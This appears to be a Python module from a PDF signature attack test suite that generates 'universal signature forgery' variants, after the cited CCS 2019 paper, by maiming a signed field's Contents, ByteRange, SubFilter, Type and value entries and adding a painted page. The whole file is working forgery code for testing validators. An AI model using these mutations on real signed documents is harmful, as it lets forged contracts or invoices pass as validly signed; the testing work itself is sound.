"""Universal Signature Forgery: the signature's dictionary is maimed so that a careless validator skips its checks.

Source: Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk: 1 Trillion Dollar Refund, ACM CCS 2019, section 5.1.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from attack_kinds import Family
from attack_pdf import Editor, appended, edited, object_text, places, with_gap, with_range
from attack_saving import painted

FORGERY = Family("universal forgery")
FIELD = "Justerare"
_CONTENTS = re.compile(rb"/Contents\s*<[0-9A-Fa-f]*>")
_RANGE = re.compile(rb"/ByteRange ?\[[^\]]*\]")

IN_PLACE: dict[str, bytes] = {
    "contents missing its value": b"",
    "contents null": b"null",
    "contents empty": b"<>",
    "contents one zero": b"<00>",
    "contents all zeros": b"<" + b"0" * 200 + b">",
    "contents a number": b"0",
    "contents a name": b"/None",
    "contents a dictionary": b"<< >>",
    "contents a reference to itself": b"0 0 R",
    "contents an empty sequence": b"<3000>",
    "contents no signed data": b"<3080060b2a864886f70d010c0a01060000>",
}
RANGES: dict[str, str] = {
    "range missing": "",
    "range without a value": "/ByteRange",
    "range null": "/ByteRange null",
    "range empty": "/ByteRange []",
    "range zeros": "/ByteRange [0 0 0 0]",
    "range negative": "/ByteRange [0 -1 -1 0]",
    "range minus everything": "/ByteRange [-1 -1 -1 -1]",
    "range a number": "/ByteRange 0",
    "range names": "/ByteRange [/a /b /c /d]",
    "range strings": "/ByteRange [(0) (1) (2) (3)]",
    "range of arrays": "/ByteRange [[0 1] [2 3]]",
    "range huge": "/ByteRange [0 99999999999999999999 0 1]",
    "range of nulls": "/ByteRange [null null null null]",
}
DICTIONARIES: dict[str, tuple[bytes, bytes]] = {
    "filter missing": (b"/Filter /Adobe.PPKLite", b""),
    "filter unknown": (b"/Filter /Adobe.PPKLite", b"/Filter /Own.Handler"),
    "subfilter missing": (b"/SubFilter /ETSI.CAdES.detached", b""),
    "subfilter null": (b"/SubFilter /ETSI.CAdES.detached", b"/SubFilter null"),
    "subfilter unknown": (b"/SubFilter /ETSI.CAdES.detached", b"/SubFilter /ETSI.Unknown"),
    "subfilter rsa sha1": (b"/SubFilter /ETSI.CAdES.detached", b"/SubFilter /adbe.x509.rsa_sha1"),
    "subfilter timestamp": (b"/SubFilter /ETSI.CAdES.detached", b"/SubFilter /ETSI.RFC3161"),
    "type another": (b"/Type /Sig", b"/Type /Page"),
    "type timestamp": (b"/Type /Sig", b"/Type /DocTimeStamp"),
    "time a name": (b"/M (", b"/M /X /N ("),
}
VALUES: dict[str, str] = {
    "value null": "null",
    "value a number": "7",
    "value a string": "(signed)",
    "value empty": "<< >>",
    "value only a type": "<< /Type /Sig >>",
    "value the catalog": "1 0 R",
    "value nowhere": "9999 0 R",
}


def redefined(change: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    """The signature's dictionary once more in an update, changed; and a painted page."""

    def build(pdf: bytes) -> bytes:
        number = Editor.on(pdf).field(FIELD).raw_get("/V").idnum
        return painted(appended(pdf, {number: change(object_text(pdf, number))}))

    return build


def replaced(pattern: re.Pattern[bytes], made: bytes) -> Callable[[bytes], bytes]:
    return redefined(lambda text: pattern.sub(lambda _: made, text, count=1))


def swapped(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    return redefined(lambda text: text.replace(old, new))


def valued(value: str) -> Callable[[bytes], bytes]:
    return lambda pdf: painted(edited(pdf, lambda editor: editor.put(editor.field(FIELD), "/V", value)))


def in_gap(made: bytes) -> Callable[[bytes], bytes]:
    return lambda pdf: with_gap(pdf, places(pdf)[-1], made)


def in_range(made: str) -> Callable[[bytes], bytes]:
    return lambda pdf: with_range(pdf, places(pdf)[-1], made)


FORGERY.variants({f"{name}, in place": in_gap(made) for name, made in IN_PLACE.items()}, "adjuster", victims=(FIELD,))
FORGERY.variants({f"{name}, in place": in_range(made) for name, made in RANGES.items()}, "adjuster", victims=(FIELD,))
FORGERY.variants({name: replaced(_CONTENTS, b"/Contents " + made) for name, made in IN_PLACE.items()}, "adjuster")
FORGERY.variants({"contents missing": replaced(_CONTENTS, b"")}, "adjuster")
FORGERY.variants({name: replaced(_RANGE, made.encode()) for name, made in RANGES.items()}, "adjuster")
FORGERY.variants({name: swapped(*change) for name, change in DICTIONARIES.items()}, "adjuster")
FORGERY.variants({name: valued(value) for name, value in VALUES.items()}, "adjuster")


@FORGERY.on_each("adjuster")
def value_is_its_own_field(pdf: bytes) -> bytes:
    return painted(
        edited(pdf, lambda editor: editor.put(editor.field(FIELD), "/V", f"{editor.field_ref(FIELD).idnum} 0 R"))
    )


@FORGERY.on_each("adjuster")
def dictionary_refers_to_itself(pdf: bytes) -> bytes:
    number = Editor.on(pdf).field(FIELD).raw_get("/V").idnum
    return painted(appended(pdf, {number: b"%d 0 R" % number}))


@FORGERY.on_each("adjuster")
def contents_refer_to_the_dictionary(pdf: bytes) -> bytes:
    number = Editor.on(pdf).field(FIELD).raw_get("/V").idnum
    return replaced(_CONTENTS, b"/Contents %d 0 R" % number)(pdf)


@FORGERY.on_each("adjuster")
def range_elsewhere(pdf: bytes) -> bytes:
    number = Editor.on(pdf).field(FIELD).raw_get("/V").idnum
    text = object_text(pdf, number)
    found = _RANGE.search(text)
    if found is None:
        raise ValueError(number)
    array = found[0].removeprefix(b"/ByteRange").strip()
    return painted(appended(pdf, {number: _RANGE.sub(b"/ByteRange 9000 0 R", text), 9000: array}))
